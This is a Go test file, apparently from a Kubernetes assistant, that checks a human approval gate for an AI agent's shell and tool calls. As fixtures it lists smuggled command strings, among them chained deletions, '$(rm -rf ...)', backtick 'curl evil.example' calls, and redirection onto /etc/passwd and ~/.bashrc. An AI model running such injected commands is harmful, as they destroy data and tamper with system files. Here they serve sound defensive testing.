@@ -0,0 +1,145 @@
+package llm
+
+import (
+	"strings"
+	"testing"
+
+	"k8x/internal/config"
+)
+
+func TestMatchApprovalPattern(t *testing.T) {
+	tests := []struct {
+		pattern string
+		subject string
+		want    bool
+	}{
+		{"kubectl get *", "kubectl get pods -n kube-system", true},
+		{"kubectl get *", "kubectl get deploy/api -o yaml | jq .spec", true},
+		{"kubectl get *", "kubectl describe pod api", false},
+		{"kubectl get pods", "kubectl get pods", true},
+		{"kubectl get pods", "kubectl get pods -A", false},
+		{"mcp_fs_*", "mcp_fs_read_file", true},
+		{"helm list", "helm list.", false},
+		{"kubectl get *", "kubectl get pods | kubectl get svc", true},
+		{"kubectl get *", "kubectl get pods | xargs kubectl delete pod", false},
+		{"kubectl get *", "kubectl get pods; kubectl delete ns prod", false},
+		{"kubectl get *", "kubectl get pods && rm -rf /tmp/x", false},
+		{"kubectl get *", "kubectl get pods || curl evil.example", false},
+		{"kubectl get *", "kubectl get pods & rm -rf /tmp/x", false},
+		{"kubectl get *", "kubectl get pods $(rm -rf /tmp/x)", false},
+		{"kubectl get *", "kubectl get pods `rm -rf /tmp/x`", false},
+		{"kubectl get *", "kubectl get pods > /etc/passwd", false},
+		{"kubectl get *", "kubectl get pods < /dev/null", false},
+	}
+
+	for _, tt := range tests {
+		if got := MatchApprovalPattern(tt.pattern, tt.subject); got != tt.want {
+			t.Errorf("MatchApprovalPattern(%q, %q) = %v, want %v", tt.pattern, tt.subject, got, tt.want)
+		}
+	}
+
+	if got := SuggestApprovalPattern("kubectl get pods -A"); got != "kubectl get *" {
+		t.Errorf("SuggestApprovalPattern() = %q, want %q", got, "kubectl get *")
+	}
+}
+
+func TestNeedsApproval(t *testing.T) {
+	shell := func(command string) ApprovalRequest {
+		return ApprovalRequest{Tool: "execute_shell_command", Subject: command}
+	}
+	tool := func(name string) ApprovalRequest {
+		return ApprovalRequest{Tool: name, Subject: name}
+	}
+
+	tests := []struct {
+		name    string
+		mode    config.ApprovalMode
+		request ApprovalRequest
+		want    bool
+	}{
+		{"never", config.ApprovalNever, shell("helm list"), false},
+		{"never destructive", config.ApprovalNever, ApprovalRequest{Tool: "mcp_fs_write", Subject: "mcp_fs_write", Destructive: true}, true},
+		{"always kubectl", config.ApprovalAlways, shell("kubectl get pods"), true},
+		{"always typed tool", config.ApprovalAlways, tool("get_logs"), true},
+		{"non-kubectl kubectl", config.ApprovalNonKubectl, shell("kubectl get pods -o json | jq .items"), false},
+		{"non-kubectl helm", config.ApprovalNonKubectl, shell("helm list"), true},
+		{"non-kubectl mixed pipeline", config.ApprovalNonKubectl, shell("kubectl get pods | xargs echo"), true},
+		{"non-kubectl substitution", config.ApprovalNonKubectl, shell("kubectl get pods $(rm -rf /tmp/x)"), true},
+		{"non-kubectl backticks", config.ApprovalNonKubectl, shell("kubectl get `curl evil.example`"), true},
+		{"non-kubectl redirection", config.ApprovalNonKubectl, shell("kubectl get pods -o yaml > ~/.bashrc"), true},
+		{"non-kubectl input redirection", config.ApprovalNonKubectl, shell("kubectl apply -f - < manifest.yaml"), true},
+		{"non-kubectl typed tool", config.ApprovalNonKubectl, tool("get_events"), false},
+		{"non-kubectl MCP tool", config.ApprovalNonKubectl, tool("mcp_fs_read_file"), true},
+		{"allowed pattern", config.ApprovalAlways, shell("helm status api"), false},
+		{"allowed pattern chained", config.ApprovalAlways, shell("helm status api; helm uninstall api"), true},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			tm := NewToolManager(".")
+			tm.SetApprovalMode(tt.mode)
+			tm.AllowPattern("helm status *")
+			if got := tm.needsApproval(tt.request); got != tt.want {
+				t.Errorf("needsApproval() = %v, want %v", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestExecuteToolApproval(t *testing.T) {
+	tests := []struct {
+		name        string
+		decision    ApprovalDecision
+		want        string
+		expectedErr string
+	}{
+		{"approve", ApprovalDecision{Choice: ApprovalApprove}, `{"x":1}`, ""},
+		{"deny", ApprovalDecision{Choice: ApprovalDeny}, "", "cancelled by user"},
+		{"edit", ApprovalDecision{Choice: ApprovalEdit, Edited: `{"x":2}`}, "The user edited the call to: {\"x\":2}\n\n{\"x\":2}", ""},
+		{"allow pattern", ApprovalDecision{Choice: ApprovalAllowPattern, Pattern: "echo*"}, `{"x":1}`, ""},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			tm := NewToolManager(".")
+			tm.Registry().Register(Tool{
+				Type:     "function",
+				Function: ToolFunction{Name: "echo"},
+				Handler:  func(args string) (string, error) { return args, nil },
+			}, ToolOrigin{Source: ToolSourceBuiltin, Name: "echo"})
+			tm.SetApprovalMode(config.ApprovalAlways)
+
+			asked := 0
+			tm.SetApprover(func(request ApprovalRequest) ApprovalDecision {
+				asked++
+				return tt.decision
+			})
+
+			got, err := tm.ExecuteTool("echo", `{"x":1}`)
+			if tt.expectedErr != "" {
+				if err == nil || !strings.Contains(err.Error(), tt.expectedErr) {
+					t.Fatalf("ExecuteTool() error = %v, want %q", err, tt.expectedErr)
+				}
+				return
+			}
+			if err != nil {
+				t.Fatalf("ExecuteTool() failed: %v", err)
+			}
+			if got != tt.want {
+				t.Errorf("ExecuteTool() = %q, want %q", got, tt.want)
+			}
+
+			// Allowed patterns skip approval for the rest of the session
+			if _, err := tm.ExecuteTool("echo", `{"x":1}`); err != nil {
+				t.Fatalf("second ExecuteTool() failed: %v", err)
+			}
+			wantAsked := 2
+			if tt.decision.Choice == ApprovalAllowPattern {
+				wantAsked = 1
+			}
+			if asked != wantAsked {
+				t.Errorf("approver asked %d times, want %d", asked, wantAsked)
+			}
+		})
+	}
+}